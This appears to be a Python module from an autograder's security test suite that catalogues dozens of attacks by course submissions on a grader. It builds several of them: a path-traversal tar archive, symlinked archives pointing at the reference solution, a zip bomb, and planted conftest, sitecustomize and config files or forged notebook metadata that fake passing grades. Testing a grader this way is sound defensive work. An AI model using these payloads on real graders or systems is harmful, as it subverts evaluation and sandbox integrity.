"""The attacks: what each is worth honestly, what winning means, and how its submission is put together."""

from __future__ import annotations

import ast
import io
import json
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
COURSE = HERE.parents[1]
REACHED = "reached-5d2c"  # what an attack says when it got where it should not be
MARK = "mark-5d2c"  # name of a file that an attack leaves behind


NEIGHBOUR = 6.0  # points of the honest submission after an attack


@dataclass(frozen=True)
class Seen:
    """What became of a submission in the hands of a naive grader.

    Attributes:
        points: that it was given.
        text: what the grader wrote about it.
        killed: the grader's process ended over it.
        hung: it had to be ended.
        memory: bytes that it held at once.
        printed: bytes that it printed.
        unpacked: bytes that its archive became.
        marks: places outside of its folder where it left something.
        neighbour: what became of the submission after it, an honest one.
        again: what became of the same submission when it came a second time.
    """

    points: float = 0.0
    text: str = ""
    killed: bool = False
    hung: bool = False
    memory: int = 0
    printed: int = 0
    unpacked: int = 0
    marks: tuple[str, ...] = ()
    neighbour: float | None = None
    again: str = ""


Win = Callable[[Seen, float], bool]
"""Takes what a naive grader saw, and the points of the honest part there."""


def gains(seen: Seen, honest: float) -> bool:
    """It got points that its honest part did not earn."""
    return seen.points > honest


def reads(seen: Seen, honest: float) -> bool:
    """It tells what it could only know from outside, or that it got there."""
    return REACHED in seen.text or REACHED in seen.again


def kills(seen: Seen, honest: float) -> bool:
    """It ended the grader."""
    return seen.killed


def hangs(seen: Seen, honest: float) -> bool:
    """It would never have ended."""
    return seen.hung


def writes(seen: Seen, honest: float) -> bool:
    """It left something outside of its folder."""
    return bool(seen.marks)


def spoils(seen: Seen, honest: float) -> bool:
    """The submission after it did not get its due."""
    return seen.neighbour != NEIGHBOUR


def topples(seen: Seen, honest: float) -> bool:
    """A check fell over it with an error of its own, which may be taken for the course's fault."""
    return "zip() argument" in seen.text


def swells(seen: Seen, honest: float) -> bool:
    """It took more of the machine than it may."""
    return seen.memory > 1_500_000_000 or seen.printed > 200_000_000 or seen.unpacked > 200_000_000


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: of its file, or of the function below that makes its folder or archive.
        exercise: the functions that it hands in, each as `unit/name`.
        win: what winning means.
        twin: the honest part: a file under `honest`.
        honest: points of the twin in the sandbox.
        twice: it is handed in a second time, right after.
        slow: it takes many seconds.
        watched: the naive grader looks at what a call changes, too, which few do.
        unguarded: points that it gains in the sandbox too, where what is seen rests on the worker's word alone.
    """

    name: str
    exercise: tuple[str, ...]
    win: Win
    twin: str = "nothing"
    honest: float = 0.0
    twice: bool = False
    slow: bool = False
    watched: bool = False
    unguarded: float = 0.0

    @property
    def unit(self) -> str:
        """The unit whose file it hands in."""
        return self.exercise[0].partition("/")[0]

    @property
    def functions(self) -> tuple[str, ...]:
        """Names of the functions that it hands in."""
        return tuple(each.partition("/")[2] for each in self.exercise)

    @property
    def twin_name(self) -> str:
        """Name of a submission that holds the honest part and nothing else."""
        return "-".join(["twin", self.unit, *self.functions, self.twin])

    @property
    def sentence(self) -> str:
        """What it tries."""
        if self.name in MADE:
            return (MADE[self.name].__doc__ or "").strip().split("\n")[0]
        return (ast.get_docstring(ast.parse((HERE / "attacks" / f"{self.name}.py").read_text())) or "").split("\n")[0]

    def write_twin(self, folder: Path) -> Path:
        """Puts the honest part under `folder`, and says where."""
        return _folder(folder, self.twin_name, {f"{self.unit}.py": filled(f"honest/{self.twin}.py", {})})

    def write(self, folder: Path, places: Mapping[str, str]) -> Path:
        """Puts the submission together under `folder`, and says where.

        Args:
            folder: of all submissions.
            places: what stands for `@NAME@` in its text.
        """
        if self.name in MADE:
            return MADE[self.name](folder, places)
        return _folder(folder, self.name, {f"{self.unit}.py": filled(f"attacks/{self.name}.py", places)})


def filled(name: str, places: Mapping[str, str]) -> str:
    """The text of a file here, with its `@NAME@`s replaced."""
    text = (HERE / name).read_text(encoding="utf-8")
    for key, value in {"REACHED": REACHED, "MARK": MARK, "COURSE": str(COURSE), **places}.items():
        text = text.replace(f"@{key}@", value)
    return text


def write_neighbour(folder: Path, name: str) -> Path:
    """Puts an honest submission under `folder`: the reference's function, alone."""
    (path,) = COURSE.glob("solutions/*_generalization/generalization.py")
    source = path.read_text(encoding="utf-8")
    (function,) = (
        each for each in ast.parse(source).body if isinstance(each, ast.FunctionDef) and each.name == "empirical_risk"
    )
    text = f"import torch\nfrom torch import Tensor\n\n\n{ast.get_source_segment(source, function)}\n"
    return _folder(folder, name, {"generalization.py": text})


def climbing_archive(folder: Path, places: Mapping[str, str]) -> Path:
    """An archive whose members climb out of the folder that they are unpacked to."""
    source = filled("honest/nothing.py", places).encode()
    names = {"generalization.py": source, f"../{MARK}": b"x", f"../../{MARK}": b"x", f"/tmp/{MARK}": b"x"}
    return _tar(folder / "climbing_archive.tar.gz", names)


def linking_archive(folder: Path, places: Mapping[str, str]) -> Path:
    """An archive in which the unit's file is a link to the reference."""
    (target,) = COURSE.glob("solutions/*_generalization/generalization.py")
    path = folder / "linking_archive.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        member = tarfile.TarInfo("generalization.py")
        member.type, member.linkname = tarfile.SYMTYPE, str(target)
        archive.addfile(member)
    return path


def linking_folder(folder: Path, places: Mapping[str, str]) -> Path:
    """A folder in which the unit's file is a link to the reference."""
    (target,) = COURSE.glob("solutions/*_generalization/generalization.py")
    path = folder / "linking_folder"
    path.mkdir()
    (path / "generalization.py").symlink_to(target)
    return path


def zip_bomb(folder: Path, places: Mapping[str, str]) -> Path:
    """An archive of a few hundred kilobytes that unpacks to hundreds of megabytes."""
    path = folder / "zip_bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("generalization.py", b"#" * 300_000_000)
    return path


def brings_conftest(folder: Path, places: Mapping[str, str]) -> Path:
    """Brings a conftest.py that hollows out the assertions."""
    hollow = filled("attacks/patched_assertions.py", places)
    text = filled("honest/zeros.py", places)
    return _folder(folder, "brings_conftest", {"generalization.py": text, "conftest.py": hollow})


def brings_configuration(folder: Path, places: Mapping[str, str]) -> Path:
    """Brings a sitecustomize.py, a unit.toml and a pyproject.toml of its own, which give points for nothing."""
    (unit,) = COURSE.glob("exercises/*_generalization/unit.toml")
    files = {
        "generalization.py": filled("honest/zeros.py", places),
        "sitecustomize.py": filled("attacks/patched_assertions.py", places),
        "unit.toml": unit.read_text().replace("= 1", "= 1000").replace("= 2", "= 1000"),
        "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--deselect=test_generalization.py -p no:autograder"\n',
        "exercises/01_generalization/test_generalization.py": '"""No checks."""\n',
        "autograder/__init__.py": "raise SystemExit(0)\n",
        "torch.py": "raise SystemExit(0)\n",
    }
    return _folder(folder, "brings_configuration", files)


def notebook(folder: Path, places: Mapping[str, str]) -> Path:
    """A notebook with a forged grading cell that hollows out the assertions, and with points in its metadata."""
    mark = {"grade": True, "solution": False, "locked": True, "points": 1000, "schema_version": 3, "grade_id": "x"}
    cells = [
        _cell(filled("attacks/patched_assertions.py", places), {"nbgrader": mark, "score": 1000}),
        _cell(filled("honest/zeros.py", places), {"score": 1000, "tensorlings": {"points": 1000}}),
    ]
    told = {"cells": cells, "metadata": {"score": 1000}, "nbformat": 4, "nbformat_minor": 4}
    return _folder(folder, "notebook", {"generalization.ipynb": json.dumps(told)})


def _cell(source: str, metadata: dict[str, object]) -> dict[str, object]:
    output = {"output_type": "execute_result", "data": {"text/plain": "1000"}, "metadata": {}, "execution_count": 1}
    return {"cell_type": "code", "source": source, "metadata": metadata, "outputs": [output], "execution_count": 1}


def _folder(folder: Path, name: str, files: Mapping[str, str]) -> Path:
    for file, text in files.items():
        path = folder / name / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder / name


def _tar(path: Path, files: Mapping[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return path


MADE: dict[str, Callable[[Path, Mapping[str, str]], Path]] = {
    each.__name__: each
    for each in (
        *(climbing_archive, linking_archive, linking_folder, zip_bomb),
        *(brings_conftest, brings_configuration, notebook),
    )
}
RISK, BAD = ("generalization/empirical_risk",), ("generalization/is_bad_dataset",)
BOUND, COUNT = ("generalization/bad_dataset_bound",), ("generalization/sample_complexity",)
ALL = (*RISK, *BAD, *BOUND, *COUNT, "generalization/excess_risk")
ENTROPY, DIVERGENCE = ("generators/image_entropy",), ("divergences/kl_divergence",)

ATTACKS = (
    # what the answer is
    Attack("always_equal", BOUND, gains, "refuses", 2),
    Attack("lying_tensor", RISK, gains, "zeros", 3),
    Attack("subclasses", COUNT, gains, "refuses", 2),
    Attack("nan_answers", (*COUNT, *BAD), gains, "refuses", 2),
    Attack("huge_answer", RISK, swells),
    Attack("reducers", (*RISK, *BOUND), gains),
    # what the answer does to those around it
    Attack("dispatch_mode", RISK, gains, "zeros", 3),
    Attack("patched_torch", RISK, gains, "zeros", 3),
    Attack("patched_numpy", RISK, gains, "zeros", 3),
    Attack("patched_assertions", RISK, gains, "zeros", 3),
    Attack("patched_hypothesis", RISK, gains, "zeros", 3),
    Attack("patched_builtins", RISK, gains, "zeros", 3),
    Attack("patched_exceptions", RISK, gains, "zeros", 3),
    Attack("assumes", BAD, gains, "one_sided", 4),
    Attack("rejects", BAD, gains, "one_sided", 4),
    Attack("skips", RISK, gains),
    Attack("zeroed_model", ("attacks/fgsm",), gains, "stands_still", 5),
    Attack("replaced_forward", ("attacks/fgsm",), gains, "stands_still", 5),
    Attack("vanishing_parameters", ("gan/discriminator_step", "gan/generator_step"), topples, "zero_steps", 7),
    Attack("remembers", ENTROPY, gains, "forgets", 3),
    Attack("hides_changes", RISK, gains, "writes", 5, watched=True, unguarded=1),
    # ends, signals, what stays behind
    Attack("os_exit", RISK, gains),
    Attack("sys_exit", RISK, gains),
    Attack("atexit_writes", RISK, gains),
    Attack("signals", RISK, kills),
    Attack("attaches", RISK, kills),
    Attack("fork_bomb", RISK, reads, slow=True),
    Attack("lingering_thread", RISK, gains, "zeros", 3),
    Attack("lingering_process", RISK, spoils),
    # the wire
    Attack("descriptors", RISK, gains),
    Attack("forged_frames", RISK, gains, "zeros", 3),
    Attack("early_answers", RISK, gains, "zeros", 3),
    Attack("malformed_replies", ALL, gains),
    Attack("patched_worker", RISK, gains, "zeros", 3),
    # looking around
    Attack("reads_reference", RISK, gains),
    Attack("reads_hidden_checks", RISK, reads),
    Attack("reads_others", RISK, gains),
    Attack("reads_canaries", RISK, reads),
    Attack("reads_environment", RISK, reads),
    Attack("reads_proc", RISK, reads),
    Attack("network", RISK, reads),
    Attack("stack_walk", RISK, gains, "minus_ones", 3),
    Attack("gc_walk", RISK, gains, "minus_ones", 3),
    Attack("trace_frames", RISK, gains, "minus_ones", 3),
    Attack("memory_scan", RISK, reads),
    Attack("setuid_program", RISK, reads),
    # too much of everything
    Attack("memory_hog", RISK, swells),
    Attack("output_flood", RISK, swells),
    Attack("import_hang", RISK, hangs, slow=True),
    Attack("stubborn_loop", RISK, hangs, slow=True),
    Attack("deaf_to_alarms", RISK, hangs, slow=True),
    Attack("hangs_backward", DIVERGENCE, hangs, "subtracts", 4.5, slow=True),
    Attack("nested_namespaces", RISK, reads),
    Attack("hoards_memory_files", RISK, reads),
    Attack("hoards_segments", RISK, reads),
    Attack("hoards_processes", RISK, hangs),
    Attack("hogs_processors", RISK, spoils),
    Attack("fills_scratch", RISK, reads),
    Attack("many_threads", RISK, reads),
    # files, and what is handed in beside the answer
    Attack("writes_outside", RISK, writes),
    Attack("poisons_cache", RISK, reads),
    Attack("leaves_in_shared_memory", RISK, reads, twice=True),
    Attack("abstract_socket", RISK, reads, twice=True),
    Attack("climbing_archive", RISK, writes),
    Attack("linking_archive", RISK, gains),
    Attack("linking_folder", RISK, gains),
    Attack("zip_bomb", RISK, swells),
    Attack("brings_conftest", RISK, gains, "zeros", 3),
    Attack("brings_configuration", RISK, gains, "zeros", 3),
    Attack("notebook", RISK, gains, "zeros", 3),
)
